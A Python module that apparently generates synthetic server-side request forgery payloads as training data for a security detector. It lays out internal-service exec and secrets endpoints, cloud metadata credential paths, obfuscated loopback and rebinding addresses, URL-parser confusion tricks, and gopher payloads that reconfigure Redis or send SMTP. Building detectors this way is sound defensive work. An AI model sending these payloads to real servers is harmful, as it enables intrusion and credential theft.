"""Server-side requests to services inside: what runs where, addresses spelled oddly, URLs read two ways."""

from __future__ import annotations

from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS, draw, private_ip, syllables
from securitai.train.corpora.attacks.ssrf import url_written
from securitai.train.corpora.kinds import HEADER, VALUE, AttackKind
from securitai.train.corpora.normal.base import host as public_host
from securitai.verdict import Category

# Names in the inner network; ports; paths that read or change something ({} is a word, # a number).
_SERVICES = tuple(
    tuple(part.split() for part in line.split("|"))
    for line in """
docker dockerd dind|2375 2376 4243|containers/json images/json info version v1.#/containers/json?all=1 containers/create?name={} containers/{}/exec build?remote=http://{}.com/Dockerfile volumes secrets services v1.#/images/json networks containers/{}/logs?stdout=1
kubelet node1 worker|10250 10255|pods runningpods/ run/{}/{}/{} exec/{}/{}/{}?command=id&input=1&output=1 configz logs/ stats/summary containerLogs/{}/{}/{} spec/
kubernetes.default.svc kubernetes.default kubernetes apiserver|443 6443 8001|api/v1/secrets api/v1/namespaces/{}/secrets api/v1/pods apis/apps/v1/deployments api/v1/nodes api/v1/namespaces/kube-system/secrets/{} api/v1/configmaps api/v1/namespaces/{}/pods/{}/exec?command=id openapi/v2
etcd etcd0|2379 4001|v2/keys/?recursive=true v2/keys/registry v3/kv/range v2/members v2/keys/{} v2/stats/leader v2/admin/config
consul consul-server|8500|v1/kv/?recurse v1/agent/self v1/agent/members v1/catalog/services v1/catalog/nodes v1/kv/{}?raw v1/acl/list v1/agent/service/register v1/kv/{}/?keys ui/dc#/services
vault|8200|v1/sys/mounts v1/secret/data/{} v1/sys/seal-status v1/auth/token/lookup-self v1/sys/init v1/kv/metadata/?list=true v1/sys/policies/acl
nomad|4646|v1/jobs v1/agent/self v1/nodes v1/client/fs/ls/{}
elasticsearch elastic es01 opensearch|9200 9201|_cat/indices?v _search?q=password _all/_search?size=# {}/_search?q=secret _cluster/settings _nodes/stats _snapshot/_all _security/user _shutdown {}/_search?q=* _cat/nodes _nodes/_local/jvm _cluster/state _search?pretty
kibana|5601|app/kibana api/console/proxy?path=_cat/indices&method=GET api/status api/saved_objects/_find?type=config
solr|8983|solr/admin/cores?action=STATUS solr/admin/info/system solr/{}/select?q=*:*&wt=json solr/{}/dataimport?command=full-import solr/{}/config solr/admin/cores?wt=json solr/{}/replication?command=fetchindex&masterUrl=http://{}.com
jenkins ci build|8080 8081 50000|script scriptText asynchPeople/ view/all/newJob computer/ credentials/ securityRealm/user/admin/ job/{}/build jenkins/script job/{}/lastBuild/consoleText
tomcat app01 appserver|8080 8009 8180|manager/html manager/text/list host-manager/html manager/status?full=true manager/jmxproxy/?qry= manager/text/deploy?path=/{} manager/html/upload
spring gateway boot|8080 8081 8761 9001|actuator/env actuator/heapdump actuator/gateway/routes actuator/configprops actuator/mappings actuator/loggers actuator/threaddump actuator/jolokia/list actuator/shutdown env heapdump actuator/httptrace actuator/beans jolokia/list eureka/apps
hadoop namenode resourcemanager|8088 50070 9870 8042 50075|ws/v1/cluster/apps/new-application ws/v1/cluster/apps webhdfs/v1/?op=LISTSTATUS webhdfs/v1/{}?op=OPEN cluster/cluster ws/v1/cluster/info dfshealth.html logs/ jmx conf webhdfs/v1/user/{}?op=LISTSTATUS&user.name=hdfs
spark spark-master|6066 8080 4040 7077|v1/submissions/create environment/ v1/submissions/status/{} api/v1/applications
rabbitmq rabbit mq|15672|api/users api/overview api/queues api/definitions api/exchanges/%2f api/whoami api/connections
couchdb couch|5984|_all_dbs _users/_all_docs _utils/ _config _node/_local/_config {}/_all_docs?include_docs=true _session
influxdb influx|8086|query?q=SHOW+DATABASES query?q=show+users&pretty=true debug/vars api/v2/buckets
prometheus prom|9090|api/v1/status/config api/v1/targets config api/v1/admin/tsdb/snapshot api/v1/status/flags api/v1/label/__name__/values -/quit
grafana|3000|api/admin/settings api/datasources/proxy/#/ api/org/users api/datasources/#/resources api/admin/users api/dashboards/uid/{}?orgId=#
weblogic wls|7001 7002|uddiexplorer/SearchPublicRegistries.jsp console/login/LoginForm.jsp wls-wsat/CoordinatorPortType console/ bea_wls_deployment_internal/
jboss wildfly|8080 9990 8443|jmx-console/HtmlAdaptor management web-console/ServerInfo.jsp invoker/JMXInvokerServlet jmx-console/ admin-console/ console/App.html
web www web01 intranet|80 81 8080 8888|server-status server-info nginx_status phpinfo.php phpmyadmin/ .env .git/config adminer.php admin/ status?full balancer-manager php-fpm-status cgi-bin/{} wp-admin/ backup.sql private/ admin/users admin/delete?username={} admin.php?action={} debug/pprof/heap debug/vars flag flag.txt internal/{} api/internal/users console/ debug/default/view secret elmah.axd trace.axd admin/config .htpasswd admin?{}=#
supervisor|9001|RPC2 index.html?action=stopall logtail/{}
portainer traefik envoy proxy|9000 8080 9901 15000 8001 2019|api/endpoints/#/docker/containers/json api/rawdata config_dump clusters?format=json quitquitquit server_info?{} stats/prometheus?filter={}
chrome selenium browserless|9222 4444|json/list json/new?file:///etc/passwd wd/hub wd/hub/sessions json/version json/protocol grid/console
jupyter notebook ray airflow flower celery mlflow|8888 8265 8080 5555 5000|api/contents api/terminals api/jobs/ api/v1/connections api/kernels api/v1/variables ajax-api/2.0/mlflow/experiments/list
cups router printer modem nas camera|80 8080 631 443|admin/conf/cupsd.conf printers/ cgi-bin/luci setup.cgi?todo={} goform/{} HNAP1/ userRpm/StatusRpm.htm rootDesc.xml system.cgi?{}=# webman/index.cgi snapshot.cgi?user=admin
minio splunk zabbix haproxy nagios|9000 8089 10051 8404 80|minio/admin/v3/info services/server/info zabbix/api_jsonrpc.php haproxy?stats nagios/cgi-bin/status.cgi minio/webrpc services/search/jobs stats;csv
""".strip().split("\n")
)  # fmt: skip
_TALKERS = (
    ("redis cache redis-master session-store", "6379 6380 26379"), ("mysql mariadb db", "3306 33060"),
    ("postgres postgresql db", "5432"), ("memcached memcache", "11211"), ("mongo mongodb", "27017 27018"),
    ("zookeeper zk", "2181"), ("kafka", "9092"), ("mssql sqlserver", "1433"), ("smtp mail postfix", "25 465 587"),
    ("ssh bastion jump", "22 2222"), ("ftp ftpd", "21"), ("ldap dc01 openldap", "389 636"), ("rsync backup", "873"),
    ("oracle", "1521"), ("rabbitmq", "5672 4369"), ("cassandra", "9042"), ("smb fileserver", "445 139"),
    ("telnet", "23"), ("vnc rdp desktop", "5900 3389"), ("rpc nfs", "111 2049"),
    ("x11 winrm jdwp", "6000 5985"), ("imap pop", "143 110 993"), ("dns", "53"),
)  # fmt: skip
_NEAR = (
    "localhost", "localhost", "127.0.0.1", "127.0.0.1", "127.0.0.1", "0.0.0.0", "[::1]", "[::]",  # noqa: S104
)  # fmt: skip
_ZONES = ("", "", "", ".local", ".internal", ".svc.cluster.local", ".lan", ".corp", ".default.svc")


def _one(rng: Random, words: tuple[str, ...] | list[str]) -> str:
    return words[int(rng.random() * len(words))]


def _filled(rng: Random, template: str) -> str:
    while "{}" in template:
        template = template.replace("{}", draw(rng, "abcdefghijklmnopqrstuvwxyz", 2, 8), 1)
    return template.replace("#", str(1 + int(rng.random() * 40)))


def service(rng: Random) -> str:
    """A URL of a known service: its address inside, its port, a path that only it has."""
    names, ports, paths = _SERVICES[int(rng.random() * len(_SERVICES))]
    roll = rng.random()
    if roll < 0.5:
        where = _one(rng, _NEAR)
    elif roll < 0.7:
        where = private_ip(rng)
    elif roll < 0.78:
        where = spelled(rng)
    else:
        name = _one(rng, names)
        where = name + ("" if "." in name else _one(rng, _ZONES))
    port = "" if rng.random() < 0.15 and ports[0] in ("80", "443") else ":" + _one(rng, ports)
    scheme = "https://" if port in (":443", ":10250", ":6443", ":8443") else "http://"
    roll = rng.random()
    if roll < 0.06:
        scheme = _one(rng, ("", "//", "HTTP://", "hTTp://", "https://", "http:/", "url:http://"))
    elif roll < 0.1:
        scheme += _one(rng, ("admin:admin@", "guest:guest@", "elastic:pw@", "a@", "root:root@"))
    slash = "//" if rng.random() < 0.03 else "/"
    tail = _one(rng, ("#", "?", "&", "#.png", "?.jpg", "%00", "%20", "?x=" + syllables(rng)))
    tail = tail if rng.random() < 0.08 else ""
    return f"{scheme}{where}{port}{slash}{_filled(rng, _one(rng, paths))}{tail}"


def talker(rng: Random) -> str:
    """HTTP to the port of a service that speaks no HTTP, as scans of inner ports do."""
    names, ports = _TALKERS[int(rng.random() * len(_TALKERS))]
    roll = rng.random()
    if roll < 0.55:
        where = _one(rng, _NEAR)
    elif roll < 0.75:
        where = private_ip(rng)
    else:
        where = _one(rng, names.split()) + _one(rng, _ZONES)
    word = syllables(rng)
    path = _one(rng, ("", "", "", "/", "/", f"/{word}", f"/?{word}", "/stats", "/info"))
    scheme = _one(rng, ("http://", "http://", "http://", "http://", "https://", "//", "ftp://"))
    return f"{scheme}{where}:{_one(rng, ports.split())}{path}"


def spelled(rng: Random) -> str:
    """An inner address in an unusual spelling: one number, hex, octal, IPv6, wildcard DNS, rebinding."""
    roll = rng.random()
    text = "169.254.169.254" if roll < 0.3 else "127.0.0.1" if roll < 0.6 else private_ip(rng)
    return _respelled(rng, text)


def metadata_ip(rng: Random) -> str:
    """The address of cloud metadata in an unusual spelling."""
    return _respelled(rng, "169.254.169.254")


def _respelled(rng: Random, text: str) -> str:
    forms = _FORMS[int(rng.random() * len(_FORMS))](rng, text)
    return forms[int(rng.random() * len(forms))]


def _numbers(rng: Random, text: str) -> tuple[str, ...]:
    a, b, c, d = map(int, text.split("."))
    value = a << 24 | b << 16 | c << 8 | d
    return (
        str(value), hex(value), f"0X{value:X}", f"0{value:o}", f"0x{rng.getrandbits(20):x}{value:08x}",
        f"{a}.{value & 0xFFFFFF}", f"{a}.{b}.{value & 0xFFFF}", f"{a}.{b}.{c:#x}.0{d:o}", f"0x{a:02x}.{value & 0xFFFFFF}",
        f"0x{a:x}.0x{b:x}.0x{c:x}.0x{d:x}", f"0{a:o}.0{b:o}.0{c:o}.0{d:o}", f"{a:#06x}.{b}.{c}.{d}",
        f"{a:05o}.{b:04o}.{c:06o}.{d:04o}", f"{a + 256}.{b + 256}.{c + 256}.{d + 256}", f"{a}.{b}.{c}.{d:03d}",
        f"{a:03d}.{b:03d}.{c:03d}.{d:03d}", f"127.{b}.{c}.{d}", "127.1", "127.0.1", "0", f"{text}.",
    )  # fmt: skip


def _sixes(rng: Random, text: str) -> tuple[str, ...]:
    a, b, c, d = map(int, text.split("."))
    high, low = a << 8 | b, c << 8 | d
    scope = _one(rng, ("eth0", "lo", "1"))
    return (
        f"[::ffff:{text}]", f"[::ffff:{high:x}:{low:x}]", f"[0:0:0:0:0:ffff:{text}]", f"[::{text}]", f"[64:ff9b::{text}]",
        f"[0000:0000:0000:0000:0000:ffff:{high:04x}:{low:04x}]", f"[::ffff:{text}%25{scope}]", f"[2002:{high:x}:{low:x}::]",
        f"[::FFFF:{high:04X}:{low:04X}]", f"[::1%25{scope}]", "[0:0:0:0:0:0:0:1]", "[::]", "[fd00:ec2::254]",
    )  # fmt: skip


def _names(rng: Random, text: str) -> tuple[str, ...]:
    a, b, c, d = map(int, text.split("."))
    number, other = f"{a:02x}{b:02x}{c:02x}{d:02x}", f"{rng.getrandbits(32):08x}"
    dashed = text.replace(".", "-")
    label = "" if rng.random() < 0.5 else syllables(rng) + _one(rng, (".", "-", "."))
    zone = _one(rng, ("nip.io", "sslip.io", "xip.io", "nip.io"))
    return (
        f"{label}{text}.{zone}", f"{label}{dashed}.{zone}", f"{label}{number}.nip.io", f"{number}.{other}.rbndr.us",
        f"{other}.{number}.rbndr.us", f"make-{dashed}-rebind-{d}-{b}-{c}-{a}-rr.1u.ms",
        f"A.{text}.1time.{b + 1}.{c}.{d}.9.forever.{other}.rebind.network", f"{label}localtest.me", f"{label}lvh.me",
        f"{label}vcap.me", f"{label}lacolhost.com", "ip6-localhost", "ip6-loopback", "localhost.", "LocalHost",
    )  # fmt: skip


def _glyphs(rng: Random, text: str) -> tuple[str, ...]:
    one = ord(_one(rng, ("\u2460", "\uff11", "\U0001d7cf", "\U0001d7d9", "\U0001d7f7")))
    zero = 0x24EA if one == 0x2460 else one - 1
    digits = [chr(zero), *[chr(one + n) for n in range(9)]]
    wide = "".join([x if x == "." else digits[int(x)] for x in text])
    dot = _one(rng, ("\u3002", "\uff0e", "\uff61", "%E3%80%82", "%2e", "%252e"))
    at = int(rng.random() * 9)
    code = ord("localhost"[at])
    odd = _one(rng, (f"%{code:02x}", chr(0x24D0 + code - 97), chr(0xFF41 + code - 97)))
    return (
        wide, wide.replace(".", dot), text.replace(".", dot), text.replace(".", dot), "%31%32%37.0.0.1",
        "localhost"[:at] + odd + "localhost"[at + 1 :], "".join([chr(0xFF41 + ord(x) - 97) for x in "localhost"]),
    )  # fmt: skip


_FORMS = (_numbers, _numbers, _sixes, _names, _glyphs)


_G = Grammar(
    r"""
port0 = ¦¦¦¦:80¦:443¦:8080¦:22¦:2375¦:6379¦:9200¦:8500¦:10250¦:8000¦:3306
path0 = ¦¦¦/¦/admin¦/server-status¦/latest/meta-data/¦/latest/meta-data/iam/security-credentials/¦/latest/user-data¦/computeMetadata/v1/¦/flag¦/containers/json¦/secret¦/internal¦/manager/html¦/etc/passwd¦/_cat/indices¦/metadata/instance?api-version=2021-02-01¦/private/keys¦/actuator/env¦/opc/v2/instance/¦/openstack/latest/meta_data.json
odd:
  6×http‹?s0›://‹spelled›‹port0›‹path0›
  //‹spelled›‹port0›‹path0›
  ‹spelled›/latest/meta-data/
  http://‹syl›:‹rnd›@‹spelled›‹port0›‹path0›
s0 = ¦¦¦s
target:
  3×127.0.0.1
  localhost
  2×169.254.169.254
  2×‹spelled›
  ‹ipriv›
  [::1]
  metadata.google.internal
confused:
  2×http‹?s0›://‹pub›@‹target›‹port0›‹path0›
  http://‹pub›:‹80¦443¦@›@‹target›‹port0›‹path0›
  http://‹pub›:‹rnd›@‹target›‹path0›
  http‹?s0›://‹target›‹port0›‹mark›@‹pub›‹path0›
  2×http‹?s0›://‹target›‹port0›‹mark›‹pub›‹path0›
  http‹?s0›://‹pub›‹mark›@‹target›‹port0›‹path0›
  http://‹pub› &@‹target›# @‹pub›/
  http://‹az›@‹target›‹port0›@‹pub›/
  http://‹az›@‹pub›:80@‹target›‹port0›‹path0›
  http:‹target›‹port0›‹path0›
  http:/‹target›‹port0›‹path0›
  http://‹slashes›‹target›‹port0›‹path0›
  http:‹\\¦/\¦\/¦\\\\¦/%5c¦%2f%2f›‹target›‹port0›‹path0›
  ‹white›http://‹target›‹port0›‹path0›
  http:‹white›//‹target›‹port0›‹path0›
  http://‹white›‹target›‹port0›‹path0›
  http://‹target›:80:‹80¦22¦8080›‹path0›
  http://‹target›:‹#65536-99999›‹path0›
  http://‹target›‹port0›‹path0›‹#¦?¦;¦%23¦%3f›‹pub›
  http://‹target›‹port0›/‹pub›/..‹path0›
  http://[‹pub›]@‹target›/
  0://‹target›‹port0›;‹pub›:80/
  http://‹pub›%2f@‹target›‹path0›
  https://‹pub›/‹%2e%2e¦..;¦..›/@‹target›‹path0›
mark = #¦%23¦%2523¦\¦\\¦%5c¦%255c¦?¦%3f¦;¦%00¦%2500¦%0a¦%0d%0a¦%09¦%20¦&¦#.¦?.¦%00.¦\.¦;.¦,¦|¦^¦`¦:80\¦:80#¦:80;¦%ff¦%E3%80%82¦[¦]¦/?¦//\¦\t¦#\¦?#
slashes = /¦//¦\¦/\¦///¦%2f¦;¦?¦#¦/./
white:
  ‹sp›
  ‹tab›
  ‹nl›
  %09
  %0a
  %20
  %00
cloud:
  2×http://‹cip›/latest/‹v2meta›
  2×http://‹gname›/computeMetadata/v1‹?beta›/‹gcp›‹?rec›
  2×http://‹cip›/metadata/‹azure›
  http://‹100.100.100.200¦100-100-100-200.nip.io¦1684300232¦[::ffff:100.100.100.200]¦0x646464c8›/latest/meta-data/‹ram/security-credentials/¦instance-id¦image-id¦ram/security-credentials/ecs-role¦eipv4¦region-id›
  http://‹cip›/opc/v‹1¦2›/‹instance/¦vnics/¦instance/metadata/¦identity/cert.pem¦identity/key.pem›
  http://‹cip›/openstack/‹latest¦2012-08-10¦2018-08-27›/‹meta_data.json¦user_data¦vendor_data.json¦network_data.json›‹?ctail›
  http://‹cip›/‹hetzner/v1/metadata/private-networks¦metadata/v1.json¦metadata/v1/interfaces/private/0/ipv4/address¦metadata/v1/user-data¦v1/instance-v2-id¦v1/hostname¦metadata›
  http://169.254.170.2‹:80¦›/v‹2¦3¦4›/‹ecs›‹?ctail›
  http://‹169.254.170.23¦[fd00:ec2::23]›/v1/credentials‹?ctail›
  http://‹metadata.tencentyun.com¦169.254.0.23›/‹latest¦1.0¦2017-09-19›/meta-data/‹cam/security-credentials/¦instance-id¦local-ipv4›‹?ctail›
  http://‹169.254.42.42¦api.metadata.cloud.ibm.com›/‹conf?format=json¦user_data¦instance_identity/v1/token?version=2022-03-01¦conf›‹?ctail›
  http://‹rancher-metadata¦rancher-metadata.rancher.internal›/‹latest¦2015-12-19¦›/‹self/container¦services¦hosts¦containers/0/ips¦›‹?ctail›
  http://metadata.‹platformequinix¦packet›.com/‹metadata¦userdata›‹?ctail›
  http://‹instance-data¦instance-data.ec2.internal›/latest/‹v2meta›‹?ctail›
  http://‹pub›@‹cip›/latest/‹v2meta›
  http://‹cip›‹mark›@‹pub›/latest/‹v2meta›
  http://‹pub›%2523@‹cip›/latest/‹v2meta›
  ‹cip›/latest/‹v2meta›
  https://‹cip›:443/latest/‹v2meta›
  http://‹cip›‹:80¦:80¦:8080›//latest/‹v2meta›
  4×http://‹cip›/latest/‹v2meta›‹ctail›
  http://‹gname›/computeMetadata/v1/‹gcp›‹ctail›
  http://‹cip›/metadata/‹instance¦identity/oauth2/token¦instance/compute›‹ctail›
  ‹ftp¦gopher¦dict¦netdoc›://‹cip›/latest/‹v2meta›
  gopher://‹gname›:80/xGET%20/computeMetadata/v1/‹gcp›%20HTTP%2f%31%2e%31%0AHost:%20metadata%0AMetadata-Flavor:%20Google%0a%0a
  gopher://169.254.169.254:80/_PUT%20/latest/api/token%20HTTP/1.1%0D%0AX-aws-ec2-metadata-token-ttl-seconds:%20‹#60-21600›%0D%0A%0D%0A
ctail = ?‹az›=‹az›¦#‹pub›¦#‹az›.‹word1›¦?‹pub›¦%00.‹az›¦&‹az›=‹n›¦%23‹az›¦?.‹az›¦;‹az›¦/‹az›/..
cip:
  3×‹metaip›
  4×169.254.169.254
ecs:
  credentials/‹hexrun›
  ‹metadata¦stats¦task¦credentials›
dictcmd:
  2×‹stats¦info¦CONFIG%20GET%20*¦config:get:dir¦flushall¦help›
  ‹az›:‹az›
  show:‹az›
ldaptail:
  %0astats%0aquit
  dc=‹az›
  o=‹az›?
gname = metadata.google.internal¦metadata¦169.254.169.254¦metadata.google.internal.¦Metadata.Google.Internal
beta = beta1
rec = ?recursive=true¦?recursive=true&alt=json¦?alt=json
v2meta = meta-data/¦meta-data/iam/security-credentials/¦meta-data/iam/info¦user-data¦dynamic/instance-identity/document¦meta-data/hostname¦meta-data/public-keys/0/openssh-key¦meta-data/public-keys/¦meta-data/iam/security-credentials/‹syl›-role¦meta-data/network/interfaces/macs/¦api/token¦meta-data/identity-credentials/ec2/security-credentials/ec2-instance¦meta-data/block-device-mapping/ami¦meta-data/local-hostname¦dynamic/fws/instance-monitoring¦meta-data/placement/region¦meta-data/reservation-id¦¦
gcp = instance/service-accounts/default/token¦instance/service-accounts/¦project/attributes/ssh-keys¦instance/attributes/kube-env¦project/project-id¦instance/hostname¦instance/service-accounts/default/email¦instance/attributes/startup-script¦instance/service-accounts/default/identity?audience=a¦instance/zone¦¦project/
azure = instance?api-version=2021-12-13¦instance?api-version=2017-04-02¦identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net¦instance/compute/userData?api-version=2021-01-01&format=text¦instance/network/interface/0/ipv4/ipAddress/0/publicIpAddress?api-version=2017-08-01&format=text¦v1/maintenance¦scheduledevents?api-version=2020-07-01¦attested/document?api-version=2020-09-01
schemes:
  2×gopher://‹target›:‹gport›/‹_¦x¦1¦›‹goph›
  dict://‹target›:‹dport›/‹dictcmd›
  ldap‹s¦i¦›://‹target›:‹11211¦6379¦22¦1389¦9000›/‹ldaptail›
  ‹tftp¦scp¦telnet¦finger¦rtsp¦nntp¦ssh2.sftp›://‹target›‹port0›/‹az›
  ‹http¦https¦ftp›+unix://%2Fvar%2Frun%2F‹docker¦mysqld%2Fmysqld¦php%2Fphp-fpm¦snapd›.sock/‹containers/json¦info¦images/json¦v2/apps›
  ‹imap¦imaps¦pop3¦pop3s›://‹target›:‹25¦110¦143¦587¦993›/
  jar:http‹?s0›://‹target›‹port0›/‹az›‹.jar¦.zip¦.war¦›!/‹az›
  netdoc:///‹etc/passwd¦proc/self/environ¦root/.ssh/id_rsa¦etc/hosts¦opt/app/application.properties›
  file://‹127.0.0.1¦localhost¦›‹u_file›
  file:‹u_file›
  url:‹http¦https¦file›://‹target›‹port0›‹path0›
  ‹view-source¦feed¦pcap¦cache¦URL¦url¦local¦curl›:http://‹target›‹port0›‹path0›
  php://filter/resource=http://‹target›‹port0›‹path0›
  ftp://‹az›:‹rnd›@‹target›:21/%0d%0a‹PASV¦PORT 127,0,0,1,0,22¦QUIT›
gport = 6379¦11211¦25¦3306¦9000¦5432¦80¦27017¦8080¦10050¦1099¦21¦389¦8983
dport = 6379¦11211¦22¦25¦3306¦26379¦2628
goph:
  *1%0d%0a$8%0d%0aflushall%0d%0a
  %2A3%0D%0A%243%0D%0ASET%0D%0A%24‹#1-9›%0D%0A‹az›%0D%0A%24‹#10-99›%0D%0A‹rnd›%0D%0A
  CONFIG%20SET%20‹dir%20/var/www/html¦dbfilename%20x.php¦dir%20/root/.ssh›%0D%0A
  EHLO%20‹az›%0D%0AMAIL%20FROM:%3C‹mail›%3E%0D%0ARCPT%20TO:%3C‹mail›%3E%0D%0ADATA%0D%0A
  ‹GET¦POST¦PUT¦DELETE›%20/‹az›%20HTTP/1.‹0¦1›%0D%0AHost:%20‹target›%0D%0A%0D%0A
  %01%01%00%01%00%08%00%00%00%01%00%00%00%00%00%00%01%04%00%01%01%‹#10-99›%00%00
  stats%0d%0aquit
  SLAVEOF%20‹ip›%20‹#1000-65535›%0d%0a
  set%20‹az›%200%200%20‹#1-99›%0D%0A‹rnd›%0D%0A
""",
    PARTS,
    {"spelled": spelled, "metaip": metadata_ip, "pub": public_host},
)
_ODD, _CONFUSED, _CLOUD = _G.maker("odd"), _G.maker("confused"), _G.maker("cloud")
_SCHEMES = _G.maker("schemes")


def inner_url(rng: Random) -> str:
    """Any of the URLs above that name an inner target plainly or in an odd spelling."""
    roll = rng.random()
    if roll < 0.45:
        return service(rng)
    if roll < 0.6:
        return talker(rng)
    return _CLOUD(rng) if roll < 0.8 else _ODD(rng) if roll < 0.93 else _SCHEMES(rng)


_SOME = (VALUE, HEADER)
KINDS = (
    AttackKind("ssrf.service", Category.SSRF, service, 1.6, _SOME),
    AttackKind("ssrf.talker", Category.SSRF, talker, 0.6, _SOME),
    AttackKind("ssrf.spelled", Category.SSRF, _G.maker("odd", url_written), 0.9, _SOME),
    AttackKind("ssrf.confused", Category.SSRF, _G.maker("confused"), 0.9, _SOME),
    AttackKind("ssrf.cloud", Category.SSRF, _G.maker("cloud", url_written), 0.6, _SOME),
    AttackKind("ssrf.schemes", Category.SSRF, _G.maker("schemes"), 0.5, _SOME),
)
